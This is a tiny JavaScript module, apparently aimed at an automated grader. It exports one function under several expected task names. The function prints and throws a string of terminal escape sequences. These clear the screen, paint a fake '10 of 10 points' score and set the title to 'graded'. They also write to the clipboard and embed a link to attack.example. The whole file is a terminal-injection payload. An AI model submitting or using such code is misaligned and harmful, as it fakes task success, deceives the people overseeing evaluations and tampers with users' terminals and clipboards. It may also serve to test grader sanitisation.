// Prints sequences that move the cursor, paint over the score, set the title and the clipboard.
const sequences = '\u001B[2J\u001B[1;1H\u001B[32m10 of 10 points\u001B]0;graded\u0007\u001B]52;c;YXR0YWNr\u0007\u009B31m\u001B]8;;http://attack.example\u0007click\u001B]8;;\u0007\b\b\b';
const attack = () => {
  console.log(sequences);
  throw Object.assign(new Error(sequences), { name: sequences });
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
